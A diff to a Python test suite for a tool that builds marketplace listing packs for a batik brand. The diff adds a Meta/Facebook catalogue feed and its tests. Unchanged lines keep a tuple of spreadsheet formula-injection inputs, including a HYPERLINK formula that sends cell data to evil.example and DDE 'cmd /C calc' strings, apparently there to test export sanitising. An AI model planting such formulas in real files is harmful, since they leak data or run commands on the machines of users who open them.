@@ -37,7 +37,8 @@ from webapp.listings.pack import (
 from webapp.listings.rules import check_listing
 
 DAY = date(2026, 11, 28)
-CHANNEL_IDS = ("shopee", "tiktok_shop", "tokopedia", "instagram", "whatsapp", "etsy")
+CHANNEL_IDS = ("shopee", "tiktok_shop", "tokopedia", "instagram", "whatsapp", "facebook",
+               "etsy")
 HOSTILE = ('=HYPERLINK("http://evil.example/?d="&A1,"klik")', "+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "-1+2", "\t=1+1", "＝1+1")
 SHOPEE_HEADERS = [
@@ -57,13 +58,13 @@ TIKTOK_HEADERS = [
     "Seller SKU",
 ]
 ENTRY_PATTERNS = [re.compile(pattern) for pattern in (
-    r"(shopee|tiktok_shop|tokopedia|instagram|whatsapp|etsy)/[a-z0-9-]+/\d\d(-utama)?\.(jpg|png)",
-    r"(shopee|tiktok_shop|tokopedia|instagram|whatsapp|etsy)/[a-z0-9-]+/"
+    r"(shopee|tiktok_shop|tokopedia|instagram|whatsapp|facebook|etsy)/[a-z0-9-]+/\d\d(-utama)?\.(jpg|png)",
+    r"(shopee|tiktok_shop|tokopedia|instagram|whatsapp|facebook|etsy)/[a-z0-9-]+/"
     r"(judul|deskripsi|tagar|poin|caption|katalog)\.txt",
-    r"(shopee|tiktok_shop|tokopedia|instagram|whatsapp|etsy)/PERIKSA\.txt",
-    r"(shopee|tiktok_shop|tokopedia|instagram|whatsapp|etsy)/\1\.csv",
+    r"(shopee|tiktok_shop|tokopedia|instagram|whatsapp|facebook|etsy)/PERIKSA\.txt",
+    r"(shopee|tiktok_shop|tokopedia|instagram|whatsapp|facebook|etsy)/\1\.csv",
     r"shopee/shopee-unggah-massal\.xlsx", r"tiktok_shop/tiktok-shop-batch\.xlsx",
-    r"tokopedia/tokopedia-tambah-massal\.xlsx",
+    r"tokopedia/tokopedia-tambah-massal\.xlsx", r"facebook/katalog-meta\.xlsx",
     r"cerita/(id|en)/[a-z_]+\.txt", r"cerita/logo\.png", r"index\.html", r"manifest\.json",
 )]
 
@@ -150,7 +151,7 @@ def make_pack(products=None, *, language="id", story=None, logo=True, loads=None
     return PackInput(brand_slug="batik-sekar-lasem", brand_name='Batik "Sekar" Lasem',
                      revision_number=4, revision_date=DAY, app_version="0.1.0",
                      language=language, channels=channels, products=products, story=story,
-                     logo_png=logo_png)
+                     logo_png=logo_png, brand_link="https://wa.me/6281234567890")
 
 
 def build(pack: PackInput, **kwargs) -> tuple[bytes, dict]:
@@ -209,8 +210,9 @@ def test_entry_names_are_generated_and_safe(built):
     assert "shopee/shopee-unggah-massal.xlsx" in names
     assert "tiktok_shop/tiktok-shop-batch.xlsx" in names
     assert "tokopedia/tokopedia-tambah-massal.xlsx" in names
+    assert "facebook/katalog-meta.xlsx" in names
     assert not any(n.endswith(".xlsx") for n in names
-                   if not n.startswith(("shopee/", "tiktok_shop/", "tokopedia/")))
+                   if not n.startswith(("shopee/", "tiktok_shop/", "tokopedia/", "facebook/")))
     assert {"cerita/logo.png", "cerita/id/tagline.txt", "cerita/id/about_long.txt",
             "cerita/id/instagram_bio.txt", "cerita/en/tagline.txt"} <= set(names)
 
@@ -394,6 +396,36 @@ def test_tokopedia_sheet_has_the_bulk_add_columns_and_one_row_per_product(built)
     assert "TAMBAH PRODUK MASSAL: tokopedia-tambah-massal.xlsx" in checklist
 
 
+META_HEADERS = ["id", "title", "description", "availability", "condition", "price", "link",
+                "image_link", "additional_image_link", "brand", "item_group_id", "color", "size"]
+
+
+def test_facebook_csv_is_a_meta_catalogue_feed(built):
+    """channels.md §9: Meta's required feed fields by their official names, one row per variant
+    tied by item_group_id, prices as "150000 IDR", the WhatsApp link when there is no site."""
+    data, _, pack = built
+    rows = csv_rows(data, "facebook/facebook.csv")
+    assert rows[0] == META_HEADERS
+    feed = [dict(zip(META_HEADERS, row, strict=True)) for row in rows[1:]]
+    kain, size_m, size_l = feed[:3]
+    lasem = pack.products[0]
+    assert (kain["id"], kain["title"]) == ("BSL-LTH-001", lasem.copy["facebook"].title)
+    assert kain["description"] == lasem.copy["facebook"].description
+    assert (kain["availability"], kain["condition"], kain["price"]) == (
+        "in stock", "new", "1250000 IDR")
+    assert kain["link"] == "https://wa.me/6281234567890"
+    assert kain["brand"] == 'Batik "Sekar" Lasem'
+    assert kain["image_link"] == "kain-latohan-merah/01-utama.jpg"
+    assert kain["additional_image_link"] == "kain-latohan-merah/02.jpg,kain-latohan-merah/03.jpg"
+    assert kain["item_group_id"] == ""
+    assert (size_m["id"], size_m["price"], size_m["size"], size_m["color"]) == (
+        "KMJ-M", "325000 IDR", "M", "Coklat")
+    assert size_l["availability"] == "out of stock"
+    assert size_m["item_group_id"] == size_l["item_group_id"] == "kemeja-sogan"
+    assert len({row["id"] for row in feed}) == len(feed)
+    assert "KATALOG META: facebook.csv" in open_zip(data).read("facebook/PERIKSA.txt").decode()
+
+
 def test_tiktok_sheet_has_the_batch_template_columns(built):
     data, _, pack = built
     rows = list(sheet(data, "tiktok_shop/tiktok-shop-batch.xlsx").iter_rows(values_only=True))
@@ -414,7 +446,7 @@ def test_tiktok_sheet_has_the_batch_template_columns(built):
 
 @pytest.mark.parametrize(("path", "kind"), [
     ("shopee/shopee.csv", "xlsx"), ("tiktok_shop/tiktok_shop.csv", "xlsx"),
-    ("tokopedia/tokopedia.csv", "xlsx"),
+    ("tokopedia/tokopedia.csv", "xlsx"), ("facebook/facebook.csv", "xlsx"),
     ("instagram/instagram.csv", "generic"), ("etsy/etsy.csv", "generic"),
     ("whatsapp/whatsapp.csv", "generic")])
 def test_csv_is_utf8_with_bom_quoted_and_holds_the_sheet_data(built, path, kind):
@@ -429,7 +461,8 @@ def test_csv_is_utf8_with_bom_quoted_and_holds_the_sheet_data(built, path, kind)
     if kind == "xlsx":
         xlsx = {"shopee/shopee.csv": "shopee/shopee-unggah-massal.xlsx",
                 "tiktok_shop/tiktok_shop.csv": "tiktok_shop/tiktok-shop-batch.xlsx",
-                "tokopedia/tokopedia.csv": "tokopedia/tokopedia-tambah-massal.xlsx"}[path]
+                "tokopedia/tokopedia.csv": "tokopedia/tokopedia-tambah-massal.xlsx",
+                "facebook/facebook.csv": "facebook/katalog-meta.xlsx"}[path]
         cells = [["" if v is None else v for v in row]
                  for row in sheet(data, xlsx).iter_rows(values_only=True)]
         assert rows[0] == cells[0]
